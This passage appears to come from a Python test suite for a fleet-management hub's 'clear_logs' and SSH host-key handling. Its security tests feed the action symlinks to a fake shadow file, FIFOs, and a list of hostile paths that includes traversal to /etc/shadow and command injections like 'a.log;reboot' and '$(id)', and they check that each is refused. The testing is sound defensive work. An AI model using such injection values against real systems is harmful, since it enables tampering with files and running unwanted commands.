        os.chown(path, sshd.pwd.getpwnam(sshd.USER).pw_uid, -1)

    def test_clear_logs_truncates_one_file_under_var_log(self):
        m = self.m
        d = self.logdir()
        os.makedirs(os.path.join(d, "nginx"))
        app = os.path.join(d, "nginx", "access.log.1")
        other = os.path.join(d, "nginx", "error.log")
        self.owned_file(app, "GET / 200\n" * 500)
        self.owned_file(other, "kept\n")
        n, nc = len(m.exec_log()), len(m.command_log())
        b = self.run_action({"server_id": "box0", "action_type": "clear_logs", "target": app})
        want = (f"if [ \"$(realpath -e -- '{app}')\" = '{app}' ]; then sudo -n dd if=/dev/null "
                f"of='{app}' oflag=nofollow,nonblock conv=nocreat status=none; else echo "
                f"'clear_logs: refused, missing or reached through a symlink:' '{app}' >&2; "
                f"exit 1; fi")
        self.assertEqual(b["command"], want)
        self.assertEqual((b["status"], b["exit_code"], b["stdout"], b["stderr"]),
                         ("completed", 0, "", ""), b)
        self.assertEqual(os.path.getsize(app), 0)
        with open(other) as f:
            self.assertEqual(f.read(), "kept\n")
        self.assertEqual(self.action_lines(m, n), [want])
        self.assertEqual(m.command_log()[nc:],
                         [f"sudo -n dd if=/dev/null of={app} oflag=nofollow,nonblock conv=nocreat "
                          "status=none"])
        a = self.audit_of(b["action_id"])
        self.assertEqual((a["command"], a["exit_code"], a["status"]), (want, 0, "completed"))
        # auto-approved clear_logs runs at once and is recorded as such
        self.owned_file(app, "again\n")
        self.hub.put("/api/v1/config", {"remediation": {"auto_approve_enabled": True}})
        r = self.hub.post("/api/v1/actions", {"server_id": "box0", "action_type": "clear_logs",
                                              "target": app})
        self.assertEqual((r.status, r.json["status"], r.json["auto_approved"], r.json["exit_code"]),
                         (201, "completed", True, 0), r)
        self.assertEqual(os.path.getsize(app), 0)
        self.assertEqual(self.audit_of(r.json["action_id"])["trigger"], "auto_approve")

    def test_clear_logs_refuses_symlinks_and_missing_files_on_the_target(self):
        m = self.m
        d = self.logdir()
        outside = tempfile.mkdtemp(prefix="hlc-outside-")
        self.addCleanup(shutil.rmtree, outside, True)
        os.chmod(outside, 0o755)
        precious = os.path.join(outside, "shadow")
        self.owned_file(precious, "root:secret\n")  # writable: only the guard protects it
        os.symlink(precious, os.path.join(d, "evil.log"))
        os.symlink(outside, os.path.join(d, "dir"))
        os.symlink(d, os.path.join(d, "loop"))
        self.owned_file(os.path.join(d, "real.log"), "x\n")
        nc = len(m.command_log())
        for target in (f"{d}/evil.log", f"{d}/dir/shadow", f"{d}/loop/real.log", f"{d}/missing.log"):
            b = self.run_action({"server_id": "box0", "action_type": "clear_logs", "target": target})
            self.assertEqual((b["status"], b["exit_code"], b["stdout"]), ("failed", 1, ""), b)
            # realpath's own complaint (a missing file) may come first
            self.assertTrue(b["stderr"].endswith(
                f"clear_logs: refused, missing or reached through a symlink: {target}\n"), b)
            self.assertEqual(self.audit_of(b["action_id"])["exit_code"], 1)
        with open(precious) as f:
            self.assertEqual(f.read(), "root:secret\n")
        self.assertEqual(os.path.getsize(os.path.join(d, "real.log")), 2)
        self.assertFalse(os.path.exists(os.path.join(d, "missing.log")))
        # the guard stopped each before sudo or dd ran
        self.assertEqual(m.command_log()[nc:], [])
        # What the guard cannot see, a file swapped for a symlink or a FIFO after it looked:
        # the emptying step alone, as the hub writes it, refuses both and returns at once.
        os.mkfifo(os.path.join(d, "pipe.log"))
        for name in ("evil.log", "pipe.log"):
            target = os.path.join(d, name)
            b = self.run_action({"server_id": "box0", "action_type": "clear_logs",
                                 "target": target})
            step = b["command"].split("; then sudo -n ", 1)[1].split("; else", 1)[0]
            self.assertTrue(step.startswith("dd if=/dev/null of="), step)
            t0 = time.monotonic()
            r = subprocess.run(["/bin/sh", "-c", step], capture_output=True, text=True, timeout=10)
            self.assertNotEqual(r.returncode, 0, (name, r))
            self.assertLess(time.monotonic() - t0, 5, name)
        with open(precious) as f:
            self.assertEqual(f.read(), "root:secret\n")

    def test_clear_logs_hostile_paths_are_400_and_run_nothing(self):
        m = self.m
        d = self.logdir()
        self.owned_file(os.path.join(d, "a.log"), "x\n")
        base = os.path.basename(d)
        n, nc = len(m.exec_log()), len(m.command_log())
        na = self.hub.get("/api/v1/actions?server_id=box0&limit=1000").json["total"]
        bad = [f"/var/log/{base}/../../../etc/shadow", f"/var/log/{base}/..", "/var/log/..",
               f"/var/log/{base}/./a.log", f"/var/log/{base}//a.log", f"/var/log/{base}/",
               f"/var/log/{base}/a log", f"/var/log/{base}/a.log b.log", f"/var/log/{base}/a\nb",
               f"/var/log/{base}/a.log\n", f"/var/log/{base}/a\tb", f"/var/log/{base}/a.log;reboot",
               f"/var/log/{base}/$(id)", f"/var/log/{base}/`id`", f"/var/log/{base}/a'b",
               f"/var/log/{base}/a\"b", f"/var/log/{base}/*.log", f"/var/log/{base}/a|b",
               f"/var/log/{base}/.hidden", f"/var/log/{base}/a..log",
               f"/var/log/{base}/é.log", f"/var/log/{base}/" + "a" * 300, "/var/log", "/var/log/",
               "/var/logx/a.log", "/etc/passwd", f"var/log/{base}/a.log", f" /var/log/{base}/a.log",
               f"/var/log/{base}/a.log ", "", "/var/log/a/" * 30 + "x"]
        for target in bad:
            r = self.hub.post("/api/v1/actions", {"server_id": "box0", "action_type": "clear_logs",
                                                  "target": target})
            assert_error(self, r, 400, "INVALID_NAME")
        self.assertEqual(self.action_lines(m, n), [])
        self.assertEqual(m.command_log()[nc:], [])
        self.assertEqual(self.hub.get("/api/v1/actions?server_id=box0&limit=1000").json["total"], na)
        self.assertEqual(os.path.getsize(os.path.join(d, "a.log")), 2)

    def test_offline_and_host_key_refused_are_409(self):
        m = self.fleet.machines[1]
        m.set_unit("nginx", "inactive")
        m.stop()
        try:
            r = self.hub.post("/api/v1/servers/box1/services/nginx/restart")
            d = assert_error(self, r, 409, "MACHINE_UNREACHABLE")
            self.assertIn("unreachable", d["message"])
            m.regen_host_key()
        finally:
            m.start()
        # the pool backs off after a refused connection (1 s, doubling): retry
        deadline = time.time() + 20
        while True:
            r = self.hub.post("/api/v1/servers/box1/services/nginx/restart")
            if r.json["detail"]["code"] != "MACHINE_UNREACHABLE" or time.time() > deadline:
                break
            time.sleep(0.5)
        d = assert_error(self, r, 409, "HOST_KEY_REFUSED")
        a = self.hub.get(f"/api/v1/actions/{d['action_id']}").json
        self.assertTrue(a["failure_reason"].startswith("host key refused"), a)
        self.assertEqual(self.hub.post("/api/v1/servers/box1/host-key/accept").status, 200)
        r = self.hub.post("/api/v1/servers/box1/services/nginx/restart")
        self.assertEqual((r.status, r.json["exit_code"]), (200, 0), r)


if __name__ == "__main__":
    unittest.main(verbosity=2)
